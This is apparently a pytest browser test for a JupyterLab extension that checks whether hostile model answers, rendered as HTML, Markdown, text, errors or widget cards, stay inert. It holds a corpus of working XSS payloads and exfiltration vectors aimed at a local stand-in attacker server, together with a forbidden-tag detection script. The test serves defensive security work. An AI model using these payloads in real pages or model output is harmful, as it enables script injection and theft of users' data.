"""Hostile model answers in a real JupyterLab: nothing runs, nothing loads.

Every payload of the corpus is shown the ways a notebook shows an answer:
the ``%%gridllm`` final bundle (``text/html`` preferred), the same bundle's
``text/markdown`` alone (JupyterLab's Markdown renderer passes raw HTML
through, which is how the reported ``<img onerror>`` ran), the ``text``
format, a one-line error, and the panel's card in markdown mode. Live
outputs are *trusted* in JupyterLab (their HTML is not sanitized again), so
``render.py`` is the only guard. A tiny HTTP server on 127.0.0.1 stands for
an attacker's: an answer must never make the browser fetch from it.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from typing import Any, ClassVar

import pytest

from .conftest import write_notebook
from .test_panel_browser import expect, open_and_run

pytestmark = pytest.mark.browser

SCREENSHOT = Path("/tmp/xss.png")
FORBIDDEN = "script, iframe, img, svg, math, style, object, embed, link, meta, video, audio, input, form, base"


def payloads(exfil: str) -> list[str]:
    """The corpus; ``exfil`` is the attacker server's URL."""
    pwn = "window.__pwned=1"
    return [
        f"``<img src=x onerror={pwn}>`",  # the reported one
        f"`<img src=x onerror={pwn}>``",
        f"```<img src=x onerror={pwn}>`` `",
        f"```\ncode\n```\n<img src=x onerror={pwn}>",
        f"~~~\n<img src=x onerror={pwn}>\n~~~~\n<img src=x onerror={pwn}>",
        f"- item\n  ```\n<img src=x onerror={pwn}>\n  ```",
        f"<script>{pwn}</script>",
        f"<img src=x onerror={pwn}>",
        f"<IMG SRC=x ONERROR='{pwn}'>",
        f'<img src="x" onerror="{pwn}"',  # unclosed
        f"<img src=x onerror={pwn}",  # unclosed, unquoted
        f"<svg onload={pwn}><circle r=9></svg>",
        f"<svg><script>{pwn}</script></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={pwn}>",
        f"<iframe src=\"javascript:{pwn}\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
        f"<details open ontoggle={pwn}>x</details>",
        f"<input autofocus onfocus={pwn}>",
        f"<a href=\"x\" title='\"><img src=x onerror={pwn}>'>q</a>",
        f"<div title=\"a'b\\\"c\" onmouseover='{pwn}'>hover</div>",
        f"[click](javascript:{pwn})",
        f"[click](JaVaScRiPt:{pwn})",
        f"[click](&#x6A;avascript:{pwn})",
        f"[click](&#106;avascript:{pwn})",
        f"<javascript:{pwn}>",
        f"[ref]: javascript:{pwn}\n\n[ref]",
        "[d](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
        "&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp;lt;b&amp;gt;",
        f"<!-- --><img src=x onerror={pwn}><!-- -->",
        f"<![CDATA[<img src=x onerror={pwn}>]]>",
        f"<style>@import url({exfil}/style-import); *{{background:url({exfil}/style-bg)}}</style>",
        f"![secret answer]({exfil}/md-image?q=secret)",
        f"![ref-image][r]\n\n[r]: {exfil}/md-ref-image",
        f"[![nested]({exfil}/nested-image)]({exfil}/nested-link)",
        f"<img src=\"{exfil}/html-img\">",
        f"<link rel=stylesheet href=\"{exfil}/link-css\">",
        (f"<video poster=\"{exfil}/poster\"></video><object data=\"{exfil}/object\"></object>"
         f"<embed src=\"{exfil}/embed\">"),
        f"<meta http-equiv=refresh content=\"0;url={exfil}/meta-refresh\">",
        f"<svg><image href=\"{exfil}/svg-image\"/></svg>",
        f"$\\href{{javascript:{pwn}}}{{x}}$ and $$\\unicode{{x}}$$ and \\\\(x\\\\)",
        f"| a | b |\n|---|---|\n| `x|<img src=x onerror={pwn}>` | y |",
        f"<{exfil}/autolink> and www.example.com and a@b.c",
        "\"'`><\"'`>\n\n\t<b>nested \"quotes\" 'here'</b>\n    <img src=x onerror=window.__pwned=1>",
    ]


class _Recorder(BaseHTTPRequestHandler):
    hits: ClassVar[list[str]]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every request; yields (base url, requests)."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/exfil", hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def local_service() -> SimpleNamespace:
    """No jobs service is needed here: the bundles and cards are built in the kernel directly."""
    return SimpleNamespace(url="http://127.0.0.1:9/remotejobs/v2")


LOAD = """\
import json
from IPython.display import display
from gridllm_nb.display.render import error_bundle, final_bundle
payloads = json.load(open("payloads.json"))
"""

# JupyterLab shows at most 50 outputs of a cell (maxNumberOutputs): 4 per payload, 12 payloads a cell.
PER_CELL = 12
SHOW_BUNDLES = """\
for i, p in list(enumerate(payloads))[START:END]:
    b = final_bundle(f"m:{i}", "completed", 1.0, p, p, "markdown")
    display(b, raw=True)
    display({"text/markdown": b["text/markdown"], "text/plain": b["text/plain"]}, raw=True)
    display(final_bundle(f"t:{i}", "failed", 1.0, p, p, "text"), raw=True)
    display(error_bundle(p), raw=True)
"""

SHOW_CARDS = """\
import ipywidgets as widgets
from gridllm_nb.api.jobs import JobState
from gridllm_nb.core.results import Result
from gridllm_nb.widgets.card import Card
cards = [Card(Result(tag=f"m:{i}", state=JobState.COMPLETED, text=p, error=p, elapsed=1.0), markdown=True)
         for i, p in enumerate(payloads)]
for card in cards:
    card.show()
widgets.VBox([card.widget for card in cards])
"""

INSPECT = """([forbidden]) => {
  const root = document.querySelector('.jp-Notebook');
  const outputs = [...root.querySelectorAll('.jp-OutputArea-output')];
  const bad = [], handlers = [], hrefs = [];
  for (const out of outputs) {
    for (const el of out.querySelectorAll(forbidden)) bad.push(`${out.firstElementChild?.className}: ${out.textContent.slice(0, 80)}`);
    for (const el of out.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (a.name.toLowerCase().startsWith('on')) handlers.push(el.outerHTML.slice(0, 200));
        if (['href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'srcdoc'].includes(a.name)) {
          if (!(a.name === 'href' && /^(https?:|mailto:|#)/i.test(a.value))) hrefs.push(`${a.name}=${a.value}`);
        }
      }
    }
  }
  return {outputs: outputs.length, bad, handlers, hrefs, pwned: typeof window.__pwned};
}"""


def test_payload_corpus_runs_and_loads_nothing(page: Any, lab: Any, attacker: Any) -> None:
    exfil, hits = attacker
    corpus = payloads(exfil)
    assert len(corpus) >= 30
    (lab.root / "payloads.json").write_text(json.dumps(corpus), encoding="utf-8")
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    shows = [SHOW_BUNDLES.replace("START", str(i)).replace("END", str(i + PER_CELL)) for i in range(0, len(corpus), PER_CELL)]
    write_notebook(lab.root / "xss-corpus.ipynb", LOAD, *shows, SHOW_CARDS, "print('DONE')")
    open_and_run(page, lab, "xss-corpus.ipynb")
    expect()(page.locator(".jp-OutputArea-output", has_text="DONE")).to_be_visible(timeout=120_000)
    cards = page.locator(".gridllm-card")
    expect()(cards).to_have_count(len(corpus), timeout=60_000)
    expect()(cards.last.locator(".gridllm-markdown-view")).to_contain_text("nested")
    # the answers are there, as text
    first = page.locator(".jp-OutputArea-output").first
    expect()(first).to_contain_text("<img src=x onerror=window.__pwned=1>")
    page.wait_for_timeout(3000)  # give a fetch, an onerror or a typesetter time to happen

    found = page.evaluate(INSPECT, [FORBIDDEN])
    assert found["outputs"] >= 4 * len(corpus) + 2
    assert found["pwned"] == "undefined"
    assert found["bad"] == [], found["bad"][:5]
    assert found["handlers"] == [], found["handlers"][:5]
    assert found["hrefs"] == [], found["hrefs"][:5]
    assert hits == [], hits
    assert dialogs == []
    assert page.url.startswith(lab.url)  # no meta refresh navigated away

    page.locator(".jp-OutputArea-output").first.scroll_into_view_if_needed()
    page.screenshot(path=str(SCREENSHOT))
